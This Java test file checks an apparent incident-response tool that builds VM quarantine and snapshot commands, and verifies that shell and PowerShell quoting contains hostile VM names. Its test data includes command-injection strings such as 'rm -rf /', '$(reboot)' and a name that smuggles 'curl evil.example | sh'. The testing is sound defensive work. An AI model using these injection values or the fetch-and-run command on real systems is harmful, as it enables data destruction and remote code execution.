package io.peerwatch.incidents.response;

import static org.assertj.core.api.Assertions.assertThat;

import io.peerwatch.incidents.Fixtures;
import io.peerwatch.schema.ResponseStep;
import io.peerwatch.schema.VmRef;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ResponseGuideTest {
    static final String UID = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    static final String Q = "$PEERWATCH_QUARANTINE_SG";

    static String commands(List<ResponseStep> steps) {
        return steps.stream().map(ResponseStep::getCommand).collect(Collectors.joining("\n"));
    }

    @Test
    void libvirtIsolatesTheInterfaceSnapshotsDisksAndKeepsTheDefinition() {
        VmRef vm = Fixtures.libvirtVm("build-07");
        List<ResponseStep> steps = ResponseGuide.steps(vm, Fixtures.binding("10.0.0.5"), UID, Q);
        assertThat(commands(steps)).contains(
                "virsh -c qemu+ssh://hv1.example.net/system domif-setlink --domain build-07 --interface 52:54:00:12:34:56 --state down",
                "snapshot-create-as --domain build-07 --name peerwatch-0123456789ab",
                "--disk-only --atomic",
                "dumpxml --domain build-07 > peerwatch-0123456789ab-domain.xml");
        assertThat(steps).allSatisfy(s -> assertThat(s.getPlatform()).isEqualTo("libvirt"));
    }

    @Test
    void awsQuarantinesTheInstanceAndSnapshotsEachVolume() {
        VmRef vm = VmRef.newBuilder().setPlatform("aws").setInstanceId("i-0abc123def4567890").setName("web").build();
        String c = commands(ResponseGuide.steps(vm, null, UID, Q));
        assertThat(c).contains("aws ec2 modify-instance-attribute --instance-id i-0abc123def4567890 --groups \"$PEERWATCH_QUARANTINE_SG\"",
                "aws ec2 create-snapshot --volume-id \"$v\"", "--instance-ids i-0abc123def4567890");
    }

    @Test
    void hyperVVsphereAndOpenStackUseTheirOwnTools() {
        VmRef hv = VmRef.newBuilder().setPlatform("hyperv").setName("sql-02").setHypervisorHost("hv-win-1").build();
        assertThat(commands(ResponseGuide.steps(hv, null, UID, Q))).contains(
                "Get-VM -Name 'sql-02' -ComputerName 'hv-win-1' | Disconnect-VMNetworkAdapter",
                "Get-VM -Name 'sql-02' -ComputerName 'hv-win-1' | Checkpoint-VM -SnapshotName 'peerwatch-0123456789ab'");
        VmRef vs = VmRef.newBuilder().setPlatform("vsphere").setName("app-3").setUuid("42-aa").build();
        assertThat(commands(ResponseGuide.steps(vs, null, UID, Q))).contains(
                "govc device.disconnect -vm app-3 ethernet-0", "govc snapshot.create -vm app-3 peerwatch-0123456789ab");
        VmRef os = VmRef.newBuilder().setPlatform("openstack").setName("gpu-1").setUuid("6f1c2d3e-0000-4000-8000-000000000001").build();
        assertThat(commands(ResponseGuide.steps(os, null, UID, Q))).contains(
                "openstack server add security group 6f1c2d3e-0000-4000-8000-000000000001 \"$PEERWATCH_QUARANTINE_SG\"",
                "openstack server remove security group 6f1c2d3e-0000-4000-8000-000000000001",
                "openstack server image create --name peerwatch-0123456789ab 6f1c2d3e-0000-4000-8000-000000000001",
                "openstack volume snapshot create");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a'; rm -rf / #", "$(reboot)", "`id`", "x\ny", "\u001b[31mred\u001b[0m", "--help", "*", "back\\slash 'q' \"dq\"",
            "\u202Eevil", "tab\there"})
    void aQuotedNameReachesTheShellAsExactlyOneUnchangedWord(String name) throws Exception {
        String quoted = ShellQuote.quote(name);
        assertThat(quoted).doesNotContain("\n", "\u001b", "\u202E");
        // printf receives one argument: the name, byte for byte
        assertThat(bash("printf '%s' " + quoted)).isEqualTo(name);
    }

    @Test
    void unsafeVmNamesInLibvirtCommandsNeverBreakOutOfTheirArgument() throws Exception {
        String evil = "db'; curl evil.example | sh; echo '\n\u001b[2J";
        VmRef vm = VmRef.newBuilder(Fixtures.libvirtVm("x")).setName(evil).setUuid(null).build();
        List<ResponseStep> steps = ResponseGuide.steps(vm, null, UID, Q);
        assertThat(steps).as("without a safe name or id no command names the VM")
                .allSatisfy(st -> assertThat(st.getCommand()).doesNotContain("curl"));
        VmRef withUuid = VmRef.newBuilder(vm).setUuid("4b2c6f1e-8d3a-4c55-9e21-000000000001").build();
        String c = commands(ResponseGuide.steps(withUuid, null, UID, Q));
        assertThat(c).as("a name with control characters is replaced by the domain UUID").contains("--domain 4b2c6f1e-8d3a-4c55-9e21-000000000001");
        VmRef quoteOnly = VmRef.newBuilder(Fixtures.libvirtVm("x")).setName("db'; curl evil.example | sh; echo '").build();
        String cmd = ResponseGuide.steps(quoteOnly, null, UID, Q).get(0).getCommand();
        String probe = cmd.replaceFirst("^virsh -c \\S+ domif-setlink --domain ", "printf '%s' ").replaceFirst(" --interface .*$", "");
        assertThat(bash(probe)).isEqualTo("db'; curl evil.example | sh; echo '");
    }

    @Test
    void powerShellNamesAreTakenLiterallyNotAsWildcards() {
        VmRef vm = VmRef.newBuilder().setPlatform("hyperv").setName("*").build();
        assertThat(commands(ResponseGuide.steps(vm, null, UID, Q))).contains("Get-VM -Name '`*' | Disconnect-VMNetworkAdapter");
        assertThat(PowerShellQuote.quote("it's \u2019x")).isEqualTo("'it''s \u2019\u2019x'");
    }

    private static String bash(String script) throws IOException, InterruptedException {
        Process p = new ProcessBuilder("bash", "-c", script).redirectErrorStream(true).start();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        p.getInputStream().transferTo(out);
        p.waitFor();
        return out.toString(StandardCharsets.UTF_8);
    }
}
